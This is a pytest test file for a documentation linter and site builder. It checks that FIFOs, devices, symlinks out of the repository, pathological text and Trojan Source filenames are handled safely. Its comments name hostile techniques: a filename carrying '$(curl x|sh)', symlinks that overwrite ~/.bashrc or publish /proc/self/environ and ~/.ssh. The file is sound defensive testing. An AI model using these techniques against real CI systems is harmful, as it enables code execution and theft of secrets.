"""A hostile environment around the content: special files, links out of the repository,
baselines that never end, text that makes a parser or tokenizer quadratic.

Every case that could hang runs `planner` in a subprocess under a memory limit and a
timeout (see tests/test_hostile.py), so a regression fails instead of stalling the
suite. No timing is asserted beyond those generous bounds."""
from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from tests.conftest import doc
from tests.test_hostile import CONTROLS, _controls_of, findings_for, run_planner


@pytest.fixture
def estate(tmp_path):
    """A git work tree holding the two controls."""
    (tmp_path / ".git").mkdir()  # the repository boundary, as discovery finds it
    for rel, text in CONTROLS.items():
        p = tmp_path / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
    return tmp_path


def _lint(root: Path, *args: str, timeout: float = 120) -> dict:
    p = run_planner(root, "lint", "--format", "json", "--fail-on", "none", "--no-cache", *args, timeout=timeout)
    assert p.returncode == 0, p.stderr[-2000:]
    return json.loads(p.stdout)


# --------------------------------------------------------------------------- special files

@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_fifo_or_a_device_named_like_markdown_is_reported_and_never_read(estate):
    """A FIFO blocks whoever opens it; /dev/zero never ends; /dev/stdin is the caller's
    input. None is opened: each is a file-unreadable error, and the run goes on."""
    control_only = _controls_of(_lint(estate))
    content = estate / "content"
    os.mkfifo(content / "pipe.md")
    os.symlink("/dev/zero", content / "zero.md")  # followed: the configuration says all
    os.symlink("/dev/stdin", content / "stdin.md")
    (estate / "planner.yml").write_text("content:\n  follow_symlinks: all\n")
    report = _lint(estate)
    for name, kind in (("pipe.md", "named pipe (FIFO)"), ("zero.md", "character device"),
                       ("stdin.md", "character device")):
        [f] = findings_for(report, f"content/{name}")
        assert f["rule"] == "file-unreadable" and kind in f["message"] and "not read" in f["message"], f
    assert _controls_of(report) == control_only


def test_product_names_are_never_inferred_from_a_link_out_of_the_repository(estate, tmp_path_factory):
    """A link out of the repository is not followed, so no word of its target may reach a
    report, not even as a product name inferred from what recurs across the pages."""
    outside = tmp_path_factory.mktemp("outside") / "secret.md"
    outside.write_text(doc("awareness", body="Zorblaxsecret token. Zorblaxsecret key. Use Zorblaxsecret daily.\n"))
    for i in range(8):
        os.symlink(outside, estate / "content" / f"link{i}.md")
    p = run_planner(estate, "lint", "-v", "--format", "json", "--fail-on", "none", "-o", "report.json")
    assert p.returncode == 0, p.stderr[-2000:]
    assert "Zorblax" not in p.stderr
    assert "Zorblax" not in (estate / "report.json").read_text()


# --------------------------------------------------------------------------- time bounds

def test_pages_that_made_the_parser_or_the_tokenizer_quadratic_are_checked_in_bounded_time(estate):
    """Each page is ~100-200 kB, far under content.max_bytes. Before: a run of 100,000
    '[' kept spaCy's tokenizer busy for many minutes (20,000 took 49 s), 50,000
    unclosed HTML comments kept the comment search busy for minutes."""
    control_only = _controls_of(_lint(estate))
    content = estate / "content"
    for name, body in (("brackets.md", "[" * 100_000), ("quotes.md", "'" * 100_000),
                       ("comments.md", "<!--" * 50_000), ("mixed.md", "a." * 50_000)):
        (content / name).write_text(doc("awareness", body=body + "\n"))
    report = _lint(estate, timeout=240)  # a few seconds a page now; the old code would run for many minutes
    assert {"content/brackets.md", "content/quotes.md", "content/comments.md", "content/mixed.md"} \
        <= {d["path"] for d in report["documents"]}
    assert _controls_of(report) == control_only


def test_only_overlong_runs_without_a_space_are_cut_for_the_tokenizer_and_offsets_hold():
    from planner.nlp import LONGEST_CHUNK, bounded

    prose = "Invite your team. https://example.com/a/very/long/but/real/path?query=1 works."
    assert bounded(prose) is prose
    text = "Start " + "[" * 1000 + " end " + "x" * (LONGEST_CHUNK + 1)
    cut = bounded(text)
    assert len(cut) == len(text)
    assert max(len(chunk) for chunk in cut.split()) <= LONGEST_CHUNK
    assert cut.startswith("Start [") and cut[-LONGEST_CHUNK - 1:-1] == "x" * LONGEST_CHUNK
    assert [i for i, (a, b) in enumerate(zip(text, cut)) if a != b] == \
        [6 + k for k in range(LONGEST_CHUNK, 1000, LONGEST_CHUNK)] + [len(text) - 1]


def test_html_comments_are_found_in_one_pass_exactly_as_the_lazy_regex_found_them():
    import random
    import re

    from planner.markdown import html_comments

    lazy = re.compile(r"<!--(.*?)-->", re.S)
    rng = random.Random(7)
    parts = ["<!--", "-->", "-", "<", "!", ">", "a", "\n", "<!---->"]
    for _ in range(5000):
        block = "".join(rng.choice(parts) for _ in range(rng.randint(0, 12)))
        assert list(html_comments(block)) == [(m.start(), m.group()) for m in lazy.finditer(block)], block
    assert list(html_comments("<!--" * 200_000)) == []  # at once: no rescan per unclosed comment


# --------------------------------------------------------------------------- baselines

def test_a_baseline_linked_to_a_device_that_never_ends_is_one_line_not_a_hang(estate):
    """A pull request can commit the baseline CI names as a symlink to /dev/zero."""
    os.symlink("/dev/zero", estate / "baseline.json")
    p = run_planner(estate, "lint", "--no-cache", "--baseline", "baseline.json", timeout=120)
    assert p.returncode == 2 and p.stderr.startswith("planner: error: baseline.json: baseline is larger than"), p.stderr
    assert len(p.stderr.strip().splitlines()) == 1


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_baseline_fifo_nobody_writes_to_is_an_empty_baseline_not_a_hang(estate):
    os.mkfifo(estate / "baseline.json")
    p = run_planner(estate, "lint", "--no-cache", "--baseline", "baseline.json", timeout=120)
    assert p.returncode == 2 and "baseline.json: baseline is empty" in p.stderr, p.stderr


@pytest.mark.parametrize("payload, fragment", [
    ('{"findings": [], "baseline_version": ' + "9" * 5000 + "}", "not valid JSON"),
    ("", "empty"),
])
def test_a_baseline_python_cannot_read_is_one_line_naming_the_file(repo, capsys, payload, fragment):
    from tests.test_clear_errors import assert_one_line_error, run_main

    repo.write("content/a.md", doc("awareness"))
    repo.write("b.json", payload)
    code, _, err = run_main(capsys, "lint", "--baseline", "b.json")
    assert_one_line_error(code, err, "b.json", fragment)


def test_a_baseline_saved_with_a_byte_order_mark_reads_like_one_without(repo, cli):
    repo.write("content/a.md", doc(None))
    assert cli("lint", "--no-cache", "--update-baseline", "b.json").exit_code == 0
    text = (repo.root / "b.json").read_text(encoding="utf-8")
    (repo.root / "b.json").write_bytes(b"\xef\xbb\xbf" + text.encode())
    assert cli("lint", "--no-cache", "--baseline", "b.json").exit_code == 0  # the finding is in it


def test_baseline_entries_that_cannot_be_written_back_are_dropped_not_a_crash(repo, cli):
    """``"\\ud800"`` is valid JSON but no text: it can match no finding, and writing it
    back (``--changed --update-baseline`` keeps other files' entries) cannot encode it."""
    repo.write("content/a.md", doc(None))
    repo.write("b.json", '{"findings": [{"fingerprint": "\\ud800x", "path": "content/gone\\udc00.md", '
                         '"rule": "tag-missing", "message": "m"}, {"fingerprint": "f", "path": "content/other.md", '
                         '"rule": "tag-missing", "message": "kept"}]}')
    from planner.baseline import load

    assert [e["message"] for e in load(repo.root / "b.json")] == ["kept"]
    r = cli("lint", "--no-cache", "--fail-on", "none", "--baseline", "b.json", "--update-baseline", "b.json")
    assert r.exit_code == 0, r.stderr
    assert "\\ud800" not in (repo.root / "b.json").read_text()


# --------------------------------------------------------------------------- what is shown

def test_bidi_overrides_and_unicode_line_breaks_are_shown_not_obeyed(repo, cli):
    """A name with U+202E displays reversed (``x\\u202egnp.md`` as ``xdm.png``: "Trojan
    Source"); U+2028 breaks a line in some log viewers. Each is shown as an escape, in the
    text, JSON and GitHub views (as ESC is), and the escape reads back as the name."""
    from planner.discovery import name_bytes

    name = "evil\u202egnp.md"
    repo.write(f"content/{name}", "---\ntitle: \"Plan\u2066 your\u2028week\"\nstage: nowhere\n---\nB.\n")
    text = cli("lint", "--fail-on", "none").output
    js = cli("lint", "--fail-on", "none", "--format", "json").output
    gh = cli("lint", "--fail-on", "none", "--format", "github").output
    for out in (text, js, gh):
        assert not any(c in out for c in "\u202e\u2066\u2028"), out
    assert "content/evil\\u202egnp.md" in text and "::group::content/evil\\u202egnp.md" in gh
    [path] = {f["path"] for f in json.loads(js)["findings"]}
    assert path == "content/evil\\u202egnp.md"
    assert name_bytes(path) == f"content/{name}".encode()


# --------------------------------------------------------------------------- the cache folder

def test_a_cache_folder_linked_out_of_the_working_tree_is_refused_naming_the_link(repo, cli, tmp_path_factory):
    """A pull request can commit `.planner-cache` as a symlink: nothing is written where it leads."""
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    os.symlink(elsewhere, repo.root / ".planner-cache")
    repo.write("content/a.md", doc("awareness"))
    r = cli("lint", "--fail-on", "none", "-v")
    assert r.exit_code == 0
    [line] = [ln for ln in r.stderr.splitlines() if "cache folder" in ln]
    assert f"(a link to {os.path.realpath(elsewhere)})" in line and "running without a cache" in line
    assert not list(elsewhere.iterdir())


def test_a_cache_folder_that_is_a_file_is_one_line_not_one_per_shard(repo, cli):
    (repo.root / ".planner-cache").write_text("not a folder")
    repo.write("content/a.md", doc("awareness"))
    r = cli("lint", "--fail-on", "none", "-v")
    assert r.exit_code == 0
    assert [ln for ln in r.stderr.splitlines() if ".planner-cache" in ln] == \
        [f"planner: cache: the cache folder {os.path.realpath(repo.root / '.planner-cache')} is not a folder; "
         "running without a cache. Remove it"]
    assert (repo.root / ".planner-cache").read_text() == "not a folder"


def test_product_name_inference_reads_pathological_pages_in_linear_time():
    """Names are inferred from up to 400 pages, 20,000 characters each: each unclosed
    `<`, `](` or `{%` rescanned its line, and a long run of backticks backtracked (1-2 s
    a page, so minutes for a hostile estate). A generous bound, not a speed target."""
    import time

    from planner.journey.estate import READ_LIMIT, light_prose

    pages = ["{%" * (READ_LIMIT // 2), "`" * READ_LIMIT, "](" * (READ_LIMIT // 2), "<" * READ_LIMIT] * 5
    started = time.process_time()
    for page in pages:
        light_prose(page)
    assert time.process_time() - started < 10  # was ~30 CPU-s; now well under one


def test_product_name_inference_still_drops_code_links_and_tags():
    from planner.journey.estate import light_prose

    page = ("Plan with Tandemly.\n````\nHidden code\n```\nstill code\n````\n"
            "See [docs](https://x.example/a) and <span class=\"Secret\">Tandemly</span> {% raw %}.\n")
    assert light_prose(page).split() == ["Plan", "with", "Tandemly.", "See", "[docs", "and", "Tandemly", "."]


def test_pages_full_of_suppression_comments_are_checked_in_bounded_time(estate):
    """Each unused directive was compared with every other directive and every finding of
    the run: three pages of 24,000 unused directives took minutes."""
    control_only = _controls_of(_lint(estate))
    for i in range(3):
        (estate / "content" / f"sup{i}.md").write_text(
            doc("awareness", body="<!-- planner-disable-next-line hype -->\n" * 24_000))
    report = _lint(estate, timeout=120)
    unused = [f for f in report["findings"] if f["rule"] == "unused-suppression"]
    assert len(unused) == 3 * 24_000 and {f["path"] for f in unused} == {f"content/sup{i}.md" for i in range(3)}
    assert _controls_of(report) == control_only


# --------------------------------------------------------------------------- folders

def test_a_tree_1500_folders_deep_is_walked_not_a_recursion_error(repo, cli):
    """Before Python 3.12 os.walk recursed once per level: "internal error: RecursionError"."""
    deep = repo.root / "content"
    for _ in range(1500):  # one level at a time: pathlib's mkdir(parents=True) recurses too
        deep = deep / "d"
        deep.mkdir()
    (deep / "deep.md").write_text(doc(None))
    r = cli("lint", "--no-cache", "--format", "json", "--fail-on", "none")
    assert r.exit_code == 0, r.stderr
    [f] = r.json()["findings"]
    assert f["rule"] == "tag-missing" and f["path"].endswith("/d/deep.md") and f["path"].count("/") == 1501
    (deep / "deep.md").unlink()
    while deep != repo.root / "content":  # bottom up: pytest's own clean-up would recurse per level too
        deep.rmdir()
        deep = deep.parent


def test_the_walk_visits_what_os_walk_visits_in_the_same_order(tmp_path):
    from planner.discovery import walk

    root = tmp_path / "t"
    for rel in ("b/x.md", "a/c/y.md", "a/z.md", "top.md", "skip/w.md", "a/c/e/f/g.md"):
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text("x")
    os.symlink("a/c", root / "link")
    os.symlink("missing", root / "dangling")

    def visit(walker) -> list:
        seen = []
        for folder, dirs, files in walker:
            dirs[:] = sorted(d for d in dirs if d != "skip")
            seen.append((folder, list(dirs), sorted(files)))
        return seen

    errors: list = []
    assert visit(walk(str(root), onerror=errors.append)) == visit(os.walk(str(root), followlinks=True))
    assert visit(walk(str(root / "nowhere"), onerror=errors.append)) == [] and len(errors) == 1


# --------------------------------------------------------------------------- writes

def test_a_report_path_committed_as_a_link_out_of_the_repository_is_never_written_through(estate, tmp_path_factory):
    """CI names `-o report.txt`; the pull request commits report.txt (or the folder it
    goes in) as a symlink to a file CI's user may write: ~/.bashrc, authorized_keys,
    /dev/sda. Writing through it would replace that file with a report whose lines the
    pull request partly chose (a file named `$(curl x|sh).md` is a line of its own)."""
    outside = tmp_path_factory.mktemp("home")
    victim = outside / ".bashrc"
    victim.write_text("precious\n")
    os.symlink(victim, estate / "report.txt")
    os.symlink(outside, estate / "reports")
    for args in (["-o", "report.txt"], ["-o", "reports/new.txt"], ["--update-baseline", "report.txt"]):
        p = run_planner(estate, "lint", "--no-cache", "--fail-on", "none", *args)
        assert p.returncode == 2, p.stderr
        assert len(p.stderr.strip().splitlines()) == 1 and "symbolic link leads out of the repository" in p.stderr
    assert victim.read_text() == "precious\n" and sorted(os.listdir(outside)) == [".bashrc"]
    assert os.path.islink(estate / "report.txt")


def test_a_report_link_that_stays_inside_the_repository_is_followed(estate):
    (estate / "reports").mkdir()
    os.symlink("reports/latest.txt", estate / "report.txt")
    p = run_planner(estate, "lint", "--no-cache", "--fail-on", "none", "-o", "report.txt")
    assert p.returncode == 0, p.stderr
    assert os.path.islink(estate / "report.txt") and "content/control/conflict.md" in (estate / "reports" / "latest.txt").read_text()


@pytest.mark.parametrize("how", ["a committed public symlink", "site_dir: an absolute path", "build_dir: an absolute path"])
def test_a_site_or_build_folder_mkdocs_yml_leads_out_of_the_repository_is_refused(repo, cli, tmp_path_factory, how):
    """mkdocs.yml and a committed `public` link come from the pull request: the build must
    not write the site into /var/www or ~/.config. Named on the command line, it may."""
    assert cli("init", ".").exit_code == 0
    outside = tmp_path_factory.mktemp("www")
    mk = repo.root / "mkdocs.yml"
    if how.startswith("a committed"):
        os.symlink(outside, repo.root / "public")
    elif how.startswith("site_dir"):
        mk.write_text(mk.read_text().replace("site_dir: public", f"site_dir: {outside}"))
    else:
        mk.write_text(mk.read_text().replace("      paths: [content]", f"      paths: [content]\n      build_dir: {outside / 'b'}", 1))
    r = cli("build")
    assert r.exit_code == 2 and "outside the repository" in r.stderr, (r.output, r.stderr)
    assert len(r.stderr.strip().splitlines()) == 1
    assert list(outside.iterdir()) == []
    if how.startswith("a committed"):
        assert cli("build", "--site-dir", str(outside / "mine")).exit_code == 0  # the caller's own choice


def test_hand_written_pages_linked_out_of_the_repository_are_not_published(repo, cli, tmp_path_factory, caplog):
    """MkDocs publishes every file of docs_dir: a committed `site/env.txt ->
    /proc/self/environ` or `site/keys -> ~/.ssh` would put CI's secrets in a preview
    site. Links out are left out with a warning; links inside still work."""
    assert cli("init", ".").exit_code == 0
    secret = tmp_path_factory.mktemp("secret")
    (secret / "key.txt").write_text("Zorblaxsecret\n")
    (secret / "page.md").write_text("# Zorblaxsecret\n")
    site = repo.root / "site"
    os.symlink(secret, site / "leakdir")
    os.symlink(secret / "key.txt", site / "key.txt")
    os.symlink(secret / "page.md", site / "page.md")
    os.symlink(".", site / "loop")
    (site / "inside.md").write_text("# Inside page\n")
    os.symlink("inside.md", site / "alias.md")
    r = cli("build")
    assert r.exit_code == 0, r.stderr
    published = [p for p in (repo.root / "public").rglob("*") if p.is_file()]
    assert not [p for p in published if b"Zorblaxsecret" in p.read_bytes()]
    assert (repo.root / "public" / "alias" / "index.html").is_file()
    assert sum("not published in the site" in m for m in caplog.messages) == 3
    assert not [m for m in caplog.messages if "not found in the documentation files" in m]  # nor in the nav


def test_a_docs_dir_outside_the_repository_is_refused(repo, cli, tmp_path_factory):
    assert cli("init", ".").exit_code == 0
    secret = tmp_path_factory.mktemp("secret")
    (secret / "id_rsa").write_text("Zorblaxsecret\n")
    mk = repo.root / "mkdocs.yml"
    mk.write_text(mk.read_text().replace("docs_dir: site", f"docs_dir: {secret}"))
    r = cli("build")
    assert r.exit_code == 2 and "docs_dir" in r.stderr and "outside the repository" in r.stderr, r.stderr
    assert not (repo.root / "public").exists() or not any((repo.root / "public").rglob("id_rsa"))


def test_a_block_that_opens_with_code_starts_its_prose_at_its_first_word():
    """Found by the property test during this review: the space after an opening code
    span began the block's prose, so its first sentence's column pointed one before it."""
    from planner.markdown import extract

    text = "- `plan` plans the week for the team.\n\n`x` Then review it.\n"
    prose, _ = extract(text, 0, 1)
    for block in prose.blocks:
        assert not prose.text[block.start].isspace(), prose.text[block.start:block.end]
        assert text[prose.offsets[block.start]] == prose.text[block.start]
    assert [prose.text[b.start:b.end] for b in prose.blocks] == ["plans the week for the team.", "Then review it."]
